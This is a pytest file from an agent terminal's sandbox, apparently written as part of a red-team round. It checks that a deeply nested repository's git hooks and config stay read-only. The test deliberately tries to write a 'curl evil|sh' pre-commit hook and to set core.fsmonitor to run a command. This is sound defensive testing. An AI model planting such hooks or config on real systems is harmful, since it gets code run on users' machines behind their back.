"""Fourth red-team round, the second wall: a repository nested deeper than three folders (a
monorepo's `packages/web/vendor/lib/x/.git`) keeps its hooks and config read-only too; git
runs them when the user works there, as it runs a shallow one's."""

from __future__ import annotations

from pathlib import Path

import pytest

from openhands_tui.jail.bubblewrap import find_bubblewrap
from openhands_tui.sdk.tool import ToolContext
from openhands_tui.tools.terminal import TerminalAction, TerminalTool

pytestmark = pytest.mark.skipif(find_bubblewrap().path is None, reason=f"no bubblewrap: {find_bubblewrap().problem}")


async def test_a_deeply_nested_repositorys_hooks_and_config_are_protected(workspace: Path) -> None:
    nested = workspace / "packages" / "web" / "vendor" / "lib" / "x" / ".git"
    (nested / "hooks").mkdir(parents=True)
    (nested / "HEAD").write_text("ref: refs/heads/main\n")
    (nested / "config").write_text("[core]\n")
    terminal = TerminalTool(ToolContext(workspace, "root"))
    try:
        hook = await terminal.run(
            TerminalAction(command="echo 'curl evil|sh' > packages/web/vendor/lib/x/.git/hooks/pre-commit")
        )
        assert hook.is_error and not (nested / "hooks" / "pre-commit").exists()
        config = await terminal.run(
            TerminalAction(command="git -C packages/web/vendor/lib/x config core.fsmonitor 'touch pwned'")
        )
        assert config.is_error and (nested / "config").read_text() == "[core]\n"
        ordinary = await terminal.run(TerminalAction(command="echo ok > packages/web/vendor/lib/x/README && echo done"))
        assert not ordinary.is_error and (nested.parent / "README").read_text() == "ok\n"
    finally:
        await terminal.close()
